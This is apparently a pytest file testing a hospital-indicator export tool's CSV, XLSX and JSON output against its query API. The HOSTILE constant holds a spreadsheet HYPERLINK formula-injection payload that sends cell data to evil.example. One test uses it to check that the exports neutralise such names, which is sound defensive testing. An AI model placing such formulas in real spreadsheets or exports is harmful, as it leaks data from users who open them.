"""`opsmon export`: the file equals what the indicator API returns for the same selection."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import province_fixture as fx
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from opsmon import indicators
from opsmon.cli import cli
from opsmon.indicators import reporting

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'

IDS = ["reporting_rate", "debt_ratio", "medical_service_revenue_share"]


@pytest.fixture
def run(demo_url):
    def invoke(*args: str):
        return CliRunner().invoke(cli, ["export", *args], env={"DATABASE_URL": demo_url}, catch_exceptions=False)
    return invoke


def test_csv_export_equals_the_query(run, demo_engine):
    period = reporting.latest_period(demo_engine)
    result = run("--indicator", ",".join(IDS), "--level", "prefecture", "--span", "ytd", "--period", period)
    assert result.exit_code == 0, result.output
    exported = pd.read_csv(io.StringIO(result.output), dtype={"code": str, "parent_code": str})

    expected = indicators.query(demo_engine, IDS, "prefecture", period, span="ytd")
    assert len(exported) == len(expected) == 10 * len(IDS)  # 9 prefectures and 梅河口市, each indicator
    merged = exported.merge(expected, on=["code", "indicator"], suffixes=("_csv", "_api"))
    assert len(merged) == len(expected)
    assert (merged["value_csv"] - merged["value_api"].astype(float)).abs().max() < 1e-12
    assert (merged["reporting_csv"] == merged["reporting_api"]).all()


def test_xlsx_export_has_chinese_headers(run, tmp_path):
    out = tmp_path / "indicators.xlsx"
    result = run("--indicator", "debt_ratio", "--level", "county", "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output
    cells = [c for row in openpyxl.load_workbook(out).active.iter_rows(max_row=6, values_only=True) for c in row]
    assert any(isinstance(c, str) and "资产负债率" in c for c in cells)


def test_progress_table_export(run, tmp_path):
    out = tmp_path / "进展情况表.xlsx"
    result = run("--indicator", "all", "--progress-table", "-o", str(out))
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out).active
    names = {row[0] for row in sheet.iter_rows(values_only=True)}
    assert "长春市" in names and "延边朝鲜族自治州" in names


def test_unknown_indicator_is_a_usage_error(run):
    result = run("--indicator", "no_such_thing")
    assert result.exit_code == 2
    assert "no_such_thing" in result.output


def test_hostile_hospital_names_are_neutralised_in_csv_and_xlsx(province, tmp_path):
    """A registry name that starts a formula comes out as text; the values are the query's, numbers as numbers."""
    with province.begin() as conn:  # this test's own database: the fixture province
        conn.execute(sa.text("UPDATE hospitals SET name = :n WHERE hospital_code = :c"),
                     {"n": HOSTILE, "c": fx.CODE["B"]})
    env = {"DATABASE_URL": province.url.render_as_string(hide_password=False)}

    def export(*args: str):
        result = CliRunner().invoke(cli, ["export", "--indicator", "surplus_rate", "--level", "hospital",
                                          "--period", "2025-01", *args], env=env, catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result

    expected = indicators.query(province, ["surplus_rate"], "hospital", "2025-01").set_index("code")
    value_b = expected.loc[fx.CODE["B"], "value"]
    assert expected.loc[fx.CODE["B"], "name"] == HOSTILE and value_b == pytest.approx(-100 / 600)  # R 600, E 700

    text = export().output
    rows = list(csv.DictReader(io.StringIO(text)))
    b = next(r for r in rows if r["code"] == fx.CODE["B"])
    assert b["name"] == "'" + HOSTILE
    assert float(b["value"]) == value_b and not b["value"].startswith("'")
    line = next(ln for ln in text.splitlines() if fx.CODE["B"] in ln)
    assert f",{b['value']}," in line  # the negative number bare: neither quoted nor prefixed
    text_columns = ("level", "code", "name", "parent_code", "indicator", "period", "span")
    assert not any(r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in text_columns)

    out = tmp_path / "hospitals.xlsx"
    export("--format", "xlsx", "-o", str(out))
    sheet = openpyxl.load_workbook(out).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    headers = [c.value for c in sheet[4]]
    row_b = next(r for r in sheet.iter_rows(min_row=5) if r[headers.index("代码")].value == fx.CODE["B"])
    name, value = row_b[headers.index("名称")], row_b[headers.index("数值")]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert value.data_type == "n" and value.value == pytest.approx(value_b) and value.value < 0

    # JSON is data, not a spreadsheet: the name as it is stored.
    records = json.loads(export("--format", "json").output)
    assert next(r for r in records if r["code"] == fx.CODE["B"])["name"] == HOSTILE
